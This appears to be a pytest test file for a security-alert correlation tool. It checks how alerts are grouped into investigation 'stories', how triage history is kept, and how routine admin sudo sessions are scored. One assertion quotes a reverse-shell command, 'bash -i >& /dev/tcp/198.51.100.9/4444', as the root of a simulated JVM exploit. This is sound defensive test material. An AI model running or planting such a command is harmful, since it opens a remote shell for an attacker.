"""Stories: one per correlation key with signals; triage with history; merging on re-key."""

from __future__ import annotations

import json
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from app.cli import main
from app.ingest import ingest
from app.investigation.stories import progression, record, routine_signature, score, story_id
from app.neo4j.database import Database
from app.pipeline import Pipeline
from tests.graphstate import rows
from tests.test_layers import P, container_with_shell, jvm_exploit, uuid

NO_RULES = Pipeline(rules=())
BASE_FIELDS = ("ts", "source", "host", "container", "pod", "process", "parent", "ancestors")
STORY = "MATCH (s:Story) RETURN s.id, s.title, s.summary, s.score, s.severity, s.first_seen"


def load(db: Database, events: list[dict[str, Any]], fmt: str = "storyline") -> None:
    report = ingest(db, fmt, [json.dumps(e) + "\n" for e in events], after_batch=NO_RULES)
    assert report.rejected == []


def alert(on: dict[str, Any], rule: str, severity: str, tactic: str, **extra: Any) -> dict:
    return {
        **{k: v for k, v in on.items() if k in BASE_FIELDS},
        "id": f"alert-{rule}-{on['id']}",
        "kind": "alert",
        "alert": {"rule_id": rule, "title": rule.replace("_", " "), "severity": severity,
                  "tactic": tactic, "on_event": on["id"], **extra},
    }  # fmt: skip


def test_one_story_per_key_with_signals(db: Database) -> None:
    events, key_of, compromise = jvm_exploit()
    connect, ident = events[4], events[3]
    load(db, [*events, compromise,
              alert(connect, "reverse_shell", "critical", "command_and_control"),
              alert(ident, "account_discovery", "low", "discovery")])  # fmt: skip
    exploit_key = key_of[4000]
    assert rows(db, "MATCH (s:Story) RETURN s.id, s.correlation_key, s.layer, s.severity") == {
        (story_id(exploit_key), exploit_key, "exploit", "critical")
    }
    assert rows(db, "MATCH (:Story)-[:HAS]->(s:Signal) RETURN s.rule_id") == {
        ("sensor.shell_from_jvm",),
        ("reverse_shell",),
        ("account_discovery",),
    }
    [(title, summary, status, tactics)] = rows(
        db, "MATCH (s:Story) RETURN s.title, s.summary, s.status, s.tactics"
    )
    assert title == "reverse shell on node-3 (+2 more rules)"
    assert status == "open"
    assert tactics == ("execution", "discovery", "command_and_control")
    assert "3 signals from 3 rules (execution → discovery → command and control)" in summary
    assert "rooted at `sh -c bash -i >& /dev/tcp/198.51.100.9/4444 0>&1`" in summary
    assert rows(db, "MATCH (s:Story)-[:OF]->(c:Context) RETURN c.key") == {(exploit_key,)}


def test_reingesting_changes_no_story(db: Database) -> None:
    events, _, compromise = jvm_exploit()
    load(db, [*events, compromise])
    before = rows(db, STORY)
    load(db, [*events, compromise])
    assert rows(db, STORY) == before


def test_triage_is_recorded_and_archiving_is_reversible(db: Database) -> None:
    events, key_of, compromise = jvm_exploit()
    load(db, [*events, compromise])
    sid = story_id(key_of[4000])
    record(db, sid, "status", "under_review", "alice", "looking")
    record(db, sid, "assignee", "alice", "alice")
    record(db, sid, "note", "the JVM is log4j 2.14", "alice")
    record(db, sid, "status", "archived", "bob", "false positive?")
    record(db, sid, "status", "open", "alice", "no: real")
    assert rows(db, "MATCH (s:Story {id: $id}) RETURN s.status, s.assignee", id=sid) == {
        ("open", "alice")
    }
    history = rows(
        db,
        "MATCH (:Story {id: $id})-[:TRIAGE]->(t) RETURN t.actor, t.field, t.from, t.to, t.comment",
        id=sid,
    )
    assert history == {
        ("alice", "status", "open", "under_review", "looking"),
        ("alice", "assignee", None, "alice", None),
        ("alice", "note", None, "the JVM is log4j 2.14", None),
        ("bob", "status", "under_review", "archived", "false positive?"),
        ("alice", "status", "archived", "open", "no: real"),
    }


def test_a_story_follows_its_events_when_late_evidence_re_keys_them(db: Database) -> None:
    events, key_of, sh = container_with_shell()
    ls = events[5]
    load(db, [*events, alert(ls, "k8s_exec_shell", "medium", "execution")])
    shell_story = story_id(key_of[2101])
    record(db, shell_story, "status", "under_review", "alice", "who is this?")
    audit = {
        "kind": "Event", "apiVersion": "audit.k8s.io/v1", "auditID": "77",
        "stage": "ResponseStarted", "verb": "create", "user": {"username": "mallory@example.com"},
        "requestURI": "/api/v1/namespaces/shop/pods/web-7d9f-abc/exec?command=sh&container=web",
        "objectRef": {"resource": "pods", "subresource": "exec", "namespace": "shop",
                      "name": "web-7d9f-abc"},
        "responseStatus": {"code": 101}, "stageTimestamp": "2026-01-05T08:00:50.200000Z",
    }  # fmt: skip
    load(db, [audit], fmt="k8s-audit")
    from tests.test_layers import uuid

    k8s_story = story_id(uuid(sh, "k8s_user_session"))
    assert rows(db, "MATCH (s:Story) RETURN s.id, s.status, s.merged_from") == {
        (k8s_story, "under_review", (shell_story,))
    }
    history = rows(db, "MATCH (:Story)-[:TRIAGE]->(t) RETURN t.field, t.to, t.actor")
    assert history == {("status", "under_review", "alice"), ("merge", k8s_story, "storyline")}


def test_scores_rank_a_kill_chain_above_noise() -> None:
    def sig(rule: str, severity: str, tactic: str) -> dict[str, str]:
        return {"rule_id": rule, "severity": severity, "tactic": tactic}

    attack = [
        sig("a", "high", "execution"),
        sig("b", "medium", "persistence"),
        sig("c", "high", "credential_access"),
        sig("d", "critical", "exfiltration"),
    ]
    noise = [sig("x", "low", "execution")] * 30
    assert score(attack, "exploit") > score(noise, "service")
    assert progression(["execution", "persistence", "discovery", "execution"]) == 3
    assert progression(["impact", "execution"]) == 1


def test_stories_and_story_commands(
    db: Database, neo4j_env: dict[str, str], capsys: pytest.CaptureFixture[str]
) -> None:
    events, key_of, compromise = jvm_exploit()
    load(
        db,
        [*events, compromise, alert(events[4], "reverse_shell", "critical", "command_and_control")],
    )
    sid = story_id(key_of[4000])
    assert main(["stories"]) == 0
    out = capsys.readouterr().out.splitlines()
    assert [c.strip() for c in out[0].split(" | ")][:4] == ["id", "severity", "status", "score"]
    assert out[2].startswith(sid[:8]) and "critical" in out[2] and "node-3" in out[2]
    assert main(["story", sid[:8]]) == 0
    text = capsys.readouterr().out
    assert "reverse shell on node-3 (+1 more rule)" in text
    assert "signals:" in text and "sensor.shell_from_jvm" in text
    assert "timeline (first 6):" in text and "<- reverse_shell" in text
    record(db, sid, "note", "the JVM is log4j 2.14", "alice")
    assert main(["story", sid[:8]]) == 0
    text = capsys.readouterr().out
    assert "timeline (first 7):" in text and "alice: note None -> the JVM is log4j 2.14" in text
    assert main(["story", sid, "--json"]) == 0
    out = json.loads(capsys.readouterr().out)
    assert [i["type"] for i in out["timeline"]].count("event") == 6
    assert main(["story", sid[:8], "--graph", "cytoscape"]) == 0
    graph = json.loads(capsys.readouterr().out)
    assert {n["data"]["kind"] for n in graph["elements"]["nodes"]} >= {"Process", "Host"}
    assert main(["story", sid[:8], "--graph", "graphml"]) == 0
    assert capsys.readouterr().out.startswith("<?xml")
    assert main(["story", "nope"]) == 1


def test_rules_command_lists_rules_and_unsupported_sigma(
    capsys: pytest.CaptureFixture[str],
) -> None:
    from tests.conftest import SIGMA_LINUX

    assert main(["rules", "--json", "--sigma", str(SIGMA_LINUX)]) == 0
    listed = json.loads(capsys.readouterr().out)
    sources = {r["source"].split(":")[0] for r in listed["rules"]}
    assert sources == {"builtin", "sigma"}
    assert sum(1 for r in listed["rules"] if r["source"] == "builtin") >= 25
    assert len(listed["unsupported"]) == 3
    assert all("DestinationHostname" in u["reason"] for u in listed["unsupported"])


# routine stories ----------------------------------------------------------------


def login(host: str, user: str, uid: int, ses: int, pid: int, start: int) -> tuple[list, P]:
    """An SSH login whose shell runs `sudo -i`, flagged by a low-severity sensor alert."""
    init = P(host, 1, 0, "/sbin/init", ["/sbin/init"], attrs={"cgroup": "/init.scope"})
    sshd = init.child(800, 1, "/usr/sbin/sshd", ["/usr/sbin/sshd", "-D"],
                      cgroup="/system.slice/ssh.service", auid=4294967295)  # fmt: skip
    scope = f"/user.slice/user-{uid}.slice/session-{ses}.scope"
    priv = sshd.child(pid, start, "/usr/sbin/sshd", [f"sshd: {user} [priv]"], auid=uid,
                      session_id=ses, cgroup=scope)  # fmt: skip
    bash = priv.child(pid + 1, start + 1, "/bin/bash", ["-bash"], tty="pts/0", uid=uid, user=user)
    sudo = bash.child(pid + 2, start + 2, "/usr/bin/sudo", ["sudo", "-i"])
    events = [p.exec() for p in (init, sshd, priv, bash, sudo)]
    events.append(alert(events[-1], "sudo_root_shell", "low", "privilege_escalation"))
    return events, bash


def admin_logins() -> tuple[list[dict], dict[str, str]]:
    """alice three times and bob once on node-1, alice once on node-2; the shells' keys."""
    events: list[dict] = []
    shells: dict[str, str] = {}
    for name, host, user, uid, ses, pid in (
        ("alice-1", "node-1", "alice", 1000, 11, 2000),
        ("alice-2", "node-1", "alice", 1000, 12, 2100),
        ("alice-3", "node-1", "alice", 1000, 13, 2200),
        ("bob-1", "node-1", "bob", 1001, 14, 2300),
        ("alice-4", "node-2", "alice", 1000, 15, 2400),
    ):
        e, bash = login(host, user, uid, ses, pid, 60 * len(shells) + 10)
        events += e
        shells[name] = uuid(bash, "interactive_shell")
    return events, shells


ROUTINE = "MATCH (s:Story) RETURN s.id, s.correlation_keys, s.routine, s.status, s.title"


def test_repeats_of_low_severity_activity_share_one_routine_story(db: Database) -> None:
    events, shells = admin_logins()
    load(db, events)
    stories = {keys: (routine, status, title) for _, keys, routine, status, title in
               rows(db, ROUTINE)}  # fmt: skip
    alice_1 = tuple(sorted(shells[f"alice-{i}"] for i in (1, 2, 3)))
    assert stories == {
        alice_1: (True, "open", "sudo root shell on node-1, 3 sessions by alice"),
        (shells["bob-1"],): (True, "open", "sudo root shell on node-1"),
        (shells["alice-4"],): (True, "open", "sudo root shell on node-2"),
    }
    # every key with a signal is in exactly one story, and the story is OF its contexts
    assert rows(db, "MATCH (st:Story)-[:OF]->(c:Context) RETURN c.key, st.routine") == {
        (k, True) for k in shells.values()
    }
    scores = dict(rows(db, "MATCH (s:Story) RETURN size(s.correlation_keys), max(s.score)"))
    assert scores[3] < scores[1]  # a pattern that repeats ranks lower
    [(summary,)] = rows(db, "MATCH (s:Story) WHERE size(s.correlation_keys) = 3 RETURN s.summary")
    assert summary.startswith("Routine: 3 interactive_shell sessions of alice")


def test_a_session_that_escalates_leaves_its_routine_story(db: Database) -> None:
    events, shells = admin_logins()
    load(db, events)
    [(routine_id,)] = rows(db, "MATCH (s:Story) WHERE size(s.correlation_keys) = 3 RETURN s.id")
    record(db, routine_id, "status", "archived", "carol", "alice administers node-1")
    sudo_2 = [e for e in events if e["kind"] == "process_exec"][9]  # alice-2's sudo
    assert sudo_2["process"]["pid"] == 2102
    load(db, [alert(sudo_2, "shadow_read", "medium", "credential_access")])
    escalated = story_id(shells["alice-2"])
    assert rows(db, ROUTINE) >= {
        (routine_id, tuple(sorted((shells["alice-1"], shells["alice-3"]))), True, "archived",
         "sudo root shell on node-1, 2 sessions by alice"),
        (escalated, (shells["alice-2"],), False, "open",
         "shadow read on node-1 (+1 more rule)"),
    }  # fmt: skip
    assert rows(db, "MATCH (:Story {id: $id})-[:HAS]->(s) RETURN s.rule_id", id=escalated) == {
        ("sudo_root_shell",),
        ("shadow_read",),
    }


def test_a_routine_story_left_empty_keeps_its_history_but_not_its_status(db: Database) -> None:
    events, shell = login("node-1", "alice", 1000, 11, 2000, 10)
    load(db, events)
    [(routine_id,)] = rows(db, "MATCH (s:Story) RETURN s.id")
    record(db, routine_id, "status", "archived", "carol", "expected")
    load(db, [alert(events[4], "shadow_read", "medium", "credential_access")])
    escalated = story_id(uuid(shell, "interactive_shell"))
    assert rows(db, "MATCH (s:Story) RETURN s.id, s.status, s.routine, s.merged_from") == {
        (escalated, "open", False, (routine_id,))
    }
    assert rows(db, "MATCH (:Story)-[:TRIAGE]->(t) RETURN t.field, t.to, t.actor") == {
        ("status", "archived", "carol"),
        ("merge", escalated, "storyline"),
    }


def test_what_makes_a_key_routine() -> None:
    def facts(*severities: str, compromises: bool = False) -> dict[str, Any]:
        signals = [{"severity": s, "compromises": compromises, "host": "h", "rule_id": f"r{i}"}
                   for i, s in enumerate(severities)]  # fmt: skip
        return {"key": "k", "layer": "auid", "root_user": "alice", "signals": signals}

    assert routine_signature(facts("low", "info")) == "auid\x1fh\x1falice\x1fr0,r1"
    assert routine_signature(facts("low", "medium")) is None
    assert routine_signature(facts("low", compromises=True)) is None
    assert routine_signature(facts()) is None


SNAPSHOT = (
    "MATCH (s:Story) OPTIONAL MATCH (s)-[:HAS]->(g:Signal) "
    "RETURN s.id, s.correlation_key, s.correlation_keys, s.routine, s.title, s.summary, "
    "s.severity, s.score, s.signal_count, toString(s.first_seen), toString(s.last_seen), "
    "collect(g.id)"
)


@settings(
    max_examples=8,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(data=st.data())
def test_routine_stories_do_not_depend_on_arrival_order(db: Database, data: st.DataObject) -> None:
    events, _ = admin_logins()
    escalation = alert(events[10], "shadow_read", "medium", "credential_access")
    events = [*events, escalation]
    with db.session() as s:
        s.run("MATCH (n) DETACH DELETE n").consume()
    load(db, events)
    expected = {(*r[:-1], tuple(sorted(r[-1]))) for r in rows(db, SNAPSHOT)}
    shuffled = data.draw(st.permutations(events), label="order")
    cut = data.draw(st.integers(min_value=1, max_value=len(events)), label="batch size")
    with db.session() as s:
        s.run("MATCH (n) DETACH DELETE n").consume()
    for i in range(0, len(shuffled), cut):
        load(db, shuffled[i : i + cut])
    assert {(*r[:-1], tuple(sorted(r[-1]))) for r in rows(db, SNAPSHOT)} == expected


def test_routine_stories_can_be_turned_off_and_every_story_rebuilt(
    db: Database, neo4j_env: dict[str, str], monkeypatch: pytest.MonkeyPatch
) -> None:
    events, shells = admin_logins()
    text = [json.dumps(e) + "\n" for e in events]
    ingest(db, "storyline", text, after_batch=Pipeline(rules=(), routine_stories=False))
    per_key = rows(db, "MATCH (s:Story) RETURN s.id, s.routine")
    assert per_key == {(story_id(k), False) for k in shells.values()}
    record(db, story_id(shells["alice-2"]), "note", "alice again", "carol")
    monkeypatch.setenv("STORYLINE_ROUTINE_STORIES", "on")
    assert main(["stories", "--rebuild"]) == 0
    grouped = rows(db, "MATCH (s:Story) RETURN size(s.correlation_keys), s.routine")
    assert grouped == {(3, True), (1, True)} and len(rows(db, "MATCH (s:Story) RETURN s.id")) == 3
    assert rows(db, "MATCH (:Story {routine: true})-[:TRIAGE]->(t) WHERE t.field = 'note' "
                    "RETURN t.to") == {("alice again",)}  # fmt: skip
    monkeypatch.setenv("STORYLINE_ROUTINE_STORIES", "off")
    assert main(["stories", "--rebuild"]) == 0
    assert rows(db, "MATCH (s:Story) RETURN s.id, s.routine") == per_key
    assert rows(db, "MATCH (:Story)-[:TRIAGE]->(t) WHERE t.field = 'note' RETURN t.to") == {
        ("alice again",)
    }
